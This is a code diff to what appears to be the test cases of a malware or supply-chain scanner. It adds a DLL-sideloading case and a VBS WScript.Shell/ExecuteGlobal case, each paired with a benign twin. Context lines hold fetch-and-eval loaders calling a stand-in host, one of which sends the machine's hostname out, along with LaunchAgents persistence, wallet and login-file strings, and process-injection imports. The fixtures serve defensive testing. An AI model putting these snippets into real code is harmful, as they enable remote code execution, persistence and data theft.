@@ -76,6 +76,7 @@ fn program_cases() -> Vec<Case> {
         ("B25", zip(&[("x.dll", signed)]), zip(&[("x.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], Some(&[0; 8192])))])),
         ("B26", zip(&[("x", macho(&[std::str::from_utf8(&b"https://a.invalid/".map(|byte| byte ^ 1)).unwrap()], &[]))]), twin.clone()),
         ("B27", twin, zip(&[("x", b"text".to_vec())])),
+        ("B33", zip(&[("app/version.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))]), zip(&[("app/versions.dll", pe(&["x"], "KERNEL32.dll", &["ExitProcess"], None))])),
         ("B34", zip(&[("x", macho(&["wallet.dat", "logins.json", "libcurl/8"], &[]))]), zip(&[("x", macho(&["libcurl/8"], &[]))])),
         ("B35", zip(&[("x", macho(&[], &["_CGEventTapCreate"]))]), zip(&[("x", macho(&[], &["_malloc"]))])),
         ("B36", zip(&[("x.exe", pe(&["ReflectiveLoader"], "KERNEL32.dll", &["WriteProcessMemory", "CreateRemoteThread"], None))]), zip(&[("x.exe", pe(&[], "KERNEL32.dll", &["ExitProcess"], None))])),
@@ -115,6 +116,7 @@ fn script_cases() -> Vec<Case> {
         ("D59", npm("node -e \\\"require('https').get('https://a.invalid',eval)\\\"", &[]), npm("node-gyp rebuild", &[])),
         ("D60", zip(&[("a.js", format!("{NODE}const os=require('os');require('https').get('https://a.invalid/'+os.hostname(),r=>eval(atob(r)))").into_bytes())]), zip(&[("a.js", format!("{NODE}require('https').get('https://a.invalid/',r=>JSON.parse(r))").into_bytes())])),
         ("D61", node(&format!("{carry}fs.writeFileSync(os.homedir()+'/Library/LaunchAgents/x.plist',p);cp.exec('launchctl load x');https.get(u)")), node("console.log('/Library/LaunchAgents')")),
+        ("D63", zip(&[("Quote.vbs", b"Stop\nSet s=CreateObject(\"WScript.Shell\")\nExecuteGlobal x\n".to_vec())]), zip(&[("Quote.vbs", b"Stop\nMsgBox \"Hello\"\n".to_vec())])),
         ("D62", npm("node s.js", &[("s.js", "")]), npm("", &[("s.js", "")])),
     ]
 }
